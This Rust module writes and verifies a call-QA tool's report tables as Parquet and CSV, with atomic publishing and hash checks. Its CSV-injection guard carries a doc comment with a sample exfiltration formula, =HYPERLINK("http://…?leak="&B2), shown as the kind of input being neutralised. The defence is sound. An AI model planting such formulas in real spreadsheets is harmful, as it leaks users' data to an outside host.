//! The report stage: a run's tables written as Parquet and CSV, and read back.
//!
//! A report set is five tables (`calls`, `segments`, `findings`, `scorecards`, `errors`,
//! declared in [`rows`]) plus `report.json`, which names the run, the rule pack, the rubric and
//! every file with its row count and SHA-256.
//!
//! A set is replaced as a whole ([`publish`]): the new one is written into a hidden folder
//! next to the old (`.reports.new`) and swapped with it in one rename, so a reader, or a crash
//! at any moment, sees the previous complete set or the new one, never a mix. Readers still
//! check every file against `report.json` ([`read_meta`]), for sets copied or edited by hand.
//!
//! polars does the encoding only (Parquet with zstd at Arrow's oldest level, CSV with a header
//! and by default a BOM); the rows are built as plain structs by the stages before, so they can
//! be tested without it.

pub mod assemble;
pub mod examples;
pub mod html;
pub mod rows;
pub(crate) mod table;
pub mod view;

use std::io::Cursor;
use std::path::{Path, PathBuf};

use polars::prelude::*;
use serde::{Deserialize, Serialize};

pub use rows::{CallRow, ErrorRow, FindingRow, ScorecardRow, SegmentRow};
pub use table::{Table, Target};

/// Version of the report set layout (`report.json` and the tables' columns). 2: instants are
/// timestamps and days dates (were RFC 3339 text), and the scorecards' count of fatal findings
/// is `fatal_findings` (was `fatal`, the calls table's boolean).
pub const REPORT_FORMAT: u32 = 2;

/// `report.json`: what a report set is and how it was made.
#[derive(Clone, Debug, PartialEq, Serialize, Deserialize)]
pub struct ReportMeta {
    pub format: u32,
    /// Derived from the inputs and settings: the same calls, model, pack and rubric give the
    /// same id, so a resumed run and an uninterrupted one agree.
    pub run_id: String,
    pub generated_at: String,
    pub producer: String,
    pub pack: String,
    pub pack_version: String,
    pub rubric_version: String,
    pub model_sha256: Option<String>,
    /// IANA name of the site's time zone: the zone of the timestamp columns, and of CSV's local
    /// times.
    pub timezone: String,
    /// Whether phone, ID and card numbers were masked in the text columns.
    pub redacted: bool,
    pub files: Vec<FileEntry>,
}

/// One file of a report set.
#[derive(Clone, Debug, PartialEq, Serialize, Deserialize)]
pub struct FileEntry {
    pub name: String,
    pub rows: usize,
    pub sha256: String,
}

/// Everything one report set holds.
#[derive(Clone, Debug, Default, PartialEq)]
pub struct Tables {
    pub calls: Vec<CallRow>,
    pub segments: Vec<SegmentRow>,
    pub findings: Vec<FindingRow>,
    pub scorecards: Vec<ScorecardRow>,
    pub errors: Vec<ErrorRow>,
}

/// How CSV files are written.
#[derive(Clone, Copy, Debug)]
pub struct CsvOptions {
    /// Start each CSV with a UTF-8 byte-order mark, so that Excel on Windows shows Chinese
    /// correctly when the file is double-clicked (the default; pandas, DuckDB, polars and
    /// callqa's own readers skip it).
    pub bom: bool,
}

impl Default for CsvOptions {
    fn default() -> Self {
        CsvOptions { bom: true }
    }
}

/// Why a report set could not be written or read.
#[derive(Debug, thiserror::Error)]
pub enum ReportError {
    #[error("{0}: {1}")]
    Io(PathBuf, #[source] std::io::Error),
    #[error("{0}: {1}")]
    Polars(PathBuf, #[source] PolarsError),
    #[error("{0}: not a report set: {1}")]
    Meta(PathBuf, String),
}

/// The file name of `report.json` in a report directory.
pub const META_FILE: &str = "report.json";

/// Builds a report set with `write_set` in a fresh hidden folder next to `reports_dir`, then
/// puts it in place of the previous set in one step ([`crate::fsutil::replace_dir`]). If
/// `write_set` fails, or the process is killed, the previous set is untouched; the next call
/// removes what a killed one left.
pub fn publish<T>(reports_dir: &Path, write_set: impl FnOnce(&Path) -> Result<T, ReportError>) -> Result<T, ReportError> {
    let staging = crate::fsutil::sibling(reports_dir, "new");
    if let Some(parent) = reports_dir.parent().filter(|p| !p.as_os_str().is_empty()) {
        std::fs::create_dir_all(parent).map_err(|e| ReportError::Io(parent.to_owned(), e))?;
    }
    if staging.exists() {
        std::fs::remove_dir_all(&staging).map_err(|e| ReportError::Io(staging.clone(), e))?;
    }
    let result = write_set(&staging);
    if result.is_err() {
        let _ = std::fs::remove_dir_all(&staging);
        return result;
    }
    crate::fsutil::replace_dir(&staging, reports_dir).map_err(|e| ReportError::Io(reports_dir.to_owned(), e))?;
    result
}

/// Writes every table as `<name>.parquet` and `<name>.csv` into `dir`, then `report.json`.
/// `meta.files` is filled in here. The files are replaced one by one: to replace a set that
/// readers may be looking at, call this inside [`publish`].
pub fn write(dir: &Path, mut meta: ReportMeta, tables: &Tables, csv: CsvOptions) -> Result<ReportMeta, ReportError> {
    let tz = jiff::tz::TimeZone::get(&meta.timezone)
        .map_err(|e| ReportError::Meta(dir.join(META_FILE), format!("time zone {:?} cannot be written: {e}", meta.timezone)))?;
    std::fs::create_dir_all(dir).map_err(|e| ReportError::Io(dir.to_owned(), e))?;
    // Every file is encoded before the first is written, so the files change within moments
    // of each other; report.json, last, lists their hashes, which readers check.
    let mut encoded: Vec<(PathBuf, Vec<u8>, usize)> = Vec::new();
    encode_table(dir, &tables.calls, &tz, csv, &mut encoded)?;
    encode_table(dir, &tables.segments, &tz, csv, &mut encoded)?;
    encode_table(dir, &tables.findings, &tz, csv, &mut encoded)?;
    encode_table(dir, &tables.scorecards, &tz, csv, &mut encoded)?;
    encode_table(dir, &tables.errors, &tz, csv, &mut encoded)?;
    remove_stray_temp_files(dir);
    meta.files.clear();
    for (path, bytes, rows) in encoded {
        crate::fsutil::write_atomic(&path, &bytes).map_err(|e| ReportError::Io(path.clone(), e))?;
        meta.files.push(FileEntry {
            name: path.file_name().expect("joined a file name").to_string_lossy().into_owned(),
            rows,
            sha256: crate::fsutil::sha256_bytes(&bytes),
        });
    }
    let path = dir.join(META_FILE);
    let json = serde_json::to_vec_pretty(&meta).expect("report metadata always serialises");
    crate::fsutil::write_atomic(&path, &json).map_err(|e| ReportError::Io(path, e))?;
    Ok(meta)
}

/// Temporary files a killed writer left in a report folder (`write_atomic` names them `.tmp…`).
fn remove_stray_temp_files(dir: &Path) {
    let Ok(entries) = std::fs::read_dir(dir) else { return };
    for e in entries.flatten() {
        let name = e.file_name().to_string_lossy().into_owned();
        if name.starts_with(".tmp") && e.file_type().is_ok_and(|t| t.is_file()) {
            let _ = std::fs::remove_file(e.path());
        }
    }
}

fn encode_table<T: Table>(dir: &Path, rows: &[T], tz: &jiff::tz::TimeZone, csv: CsvOptions, out: &mut Vec<(PathBuf, Vec<u8>, usize)>) -> Result<(), ReportError> {
    let parquet_path = dir.join(format!("{}.parquet", T::NAME));
    let csv_path = dir.join(format!("{}.csv", T::NAME));
    let mut df = T::to_frame(rows, &table::Target::parquet(tz)).map_err(|e| ReportError::Polars(parquet_path.clone(), e))?;
    let parquet = parquet_bytes(&mut df).map_err(|e| ReportError::Polars(parquet_path.clone(), e))?;

    // Instants and days are text in CSV; other tables (findings, the largest) reuse the frame.
    if T::CSV_TEXT {
        df = T::to_frame(rows, &table::Target::csv(tz)).map_err(|e| ReportError::Polars(csv_path.clone(), e))?;
    }
    neutralise_formulas(&mut df).map_err(|e| ReportError::Polars(csv_path.clone(), e))?;
    let mut text = Vec::new();
    CsvWriter::new(&mut text)
        .include_header(true)
        .include_bom(csv.bom)
        .finish(&mut df)
        .map_err(|e| ReportError::Polars(csv_path.clone(), e))?;

    out.push((parquet_path, parquet, rows.len()));
    out.push((csv_path, text, rows.len()));
    Ok(())
}

/// Whether a spreadsheet would read a cell as a formula: text starting with `=`, `+`, `-`,
/// `@`, a tab or a carriage return (OWASP, "CSV Injection").
pub fn looks_like_formula(s: &str) -> bool {
    s.starts_with(['=', '+', '-', '@', '\t', '\r'])
}

/// A cell as the CSV holds it: a formula-looking text gets a leading `'`, so Excel and
/// LibreOffice show it as text instead of running it (an agent named
/// `=HYPERLINK("http://…?leak="&B2)` would otherwise send the sheet's data away). Only text
/// columns of the CSV files change; Parquet keeps the raw value.
pub fn csv_cell(s: &str) -> std::borrow::Cow<'_, str> {
    if looks_like_formula(s) { format!("'{s}").into() } else { s.into() }
}

fn neutralise_formulas(df: &mut DataFrame) -> PolarsResult<()> {
    let names: Vec<PlSmallStr> =
        df.columns().iter().filter(|c| c.dtype() == &DataType::String).map(|c| c.name().clone()).collect();
    for name in names {
        let col = df.column(&name)?;
        let ca = col.str()?;
        if !ca.iter().flatten().any(looks_like_formula) {
            continue;
        }
        let safe: StringChunked = ca.iter().map(|v| v.map(|s| csv_cell(s).into_owned())).collect();
        df.replace(&name, safe.with_name(name.clone()).into_series().into_column())?;
    }
    Ok(())
}

/// A frame as Parquet (zstd) that readers back to pyarrow 14 open.
///
/// polars 0.55 writes strings as Arrow `string_view` and names that type in the Arrow schema it
/// embeds in the file (`ARROW:schema`, which readers use to restore types such as a timestamp's
/// zone); readers before Arrow 15 cannot parse that schema ("Unrecognized type: 24") and fail on
/// every table. Parquet itself has one string type, so the pages are the same either way: the
/// file gets the schema of Arrow's oldest level instead, where strings are `large_string`
/// (timestamps with their zone, dates, numbers and booleans are the same at both levels).
pub fn parquet_bytes(df: &mut DataFrame) -> PolarsResult<Vec<u8>> {
    let schema = polars_parquet::write::schema_to_metadata_key(&df.schema().to_arrow(CompatLevel::oldest()));
    let mut out = Vec::new();
    ParquetWriter::new(&mut out)
        .with_compression(ParquetCompression::Zstd(None))
        // Given the key, the writer embeds this schema instead of its own.
        .with_key_value_metadata(Some(polars::io::parquet::write::KeyValueMetadata::Static(vec![schema])))
        .finish(df)?;
    Ok(out)
}

/// The report directory for `dir`: `dir` itself when it holds `report.json`, else
/// `dir/reports` when that does (so both a run directory and its reports folder work).
pub fn locate(dir: &Path) -> Result<PathBuf, ReportError> {
    for d in [dir.to_owned(), dir.join("reports")] {
        if d.join(META_FILE).is_file() {
            return Ok(d);
        }
    }
    Err(ReportError::Meta(dir.to_owned(), format!("no {META_FILE} here or in its reports/ folder; run `callqa run` or `callqa score` first")))
}

/// Reads `report.json` from a report directory (see [`locate`]).
pub fn read_meta(dir: &Path) -> Result<(PathBuf, ReportMeta), ReportError> {
    let dir = locate(dir)?;
    let path = dir.join(META_FILE);
    let bytes = std::fs::read(&path).map_err(|e| ReportError::Io(path.clone(), e))?;
    let meta: ReportMeta = serde_json::from_slice(&bytes).map_err(|e| ReportError::Meta(path.clone(), e.to_string()))?;
    if meta.format != REPORT_FORMAT {
        return Err(ReportError::Meta(path, format!("report format {}, this build reads {REPORT_FORMAT}; score the run again with this build (transcripts are reused) to rewrite it", meta.format)));
    }
    // A set whose files are not the ones report.json lists was being written, or its writer
    // was killed: refuse it rather than show scores from two different runs.
    for f in &meta.files {
        let file = dir.join(&f.name);
        let got = crate::fsutil::sha256_file(&file).map_err(|e| ReportError::Io(file.clone(), e))?;
        if got != f.sha256 {
            return Err(ReportError::Meta(
                file,
                format!("does not match {META_FILE} (run {}): the report set is being written, or its writer was interrupted; run the command that wrote it again", meta.run_id),
            ));
        }
    }
    Ok((dir, meta))
}

/// Reads one table's Parquet file from a report directory found by [`read_meta`].
pub fn read_table<T: Table>(dir: &Path) -> Result<Vec<T>, ReportError> {
    let path = dir.join(format!("{}.parquet", T::NAME));
    let bytes = std::fs::read(&path).map_err(|e| ReportError::Io(path.clone(), e))?;
    let df = ParquetReader::new(Cursor::new(bytes)).finish().map_err(|e| ReportError::Polars(path.clone(), e))?;
    T::from_frame(&df).map_err(|e| ReportError::Polars(path, e))
}

/// Reads a whole report set.
pub fn read(dir: &Path) -> Result<(ReportMeta, Tables), ReportError> {
    let (dir, meta) = read_meta(dir)?;
    let tables = Tables {
        calls: read_table(&dir)?,
        segments: read_table(&dir)?,
        findings: read_table(&dir)?,
        scorecards: read_table(&dir)?,
        errors: read_table(&dir)?,
    };
    Ok((meta, tables))
}

#[cfg(test)]
mod tests;
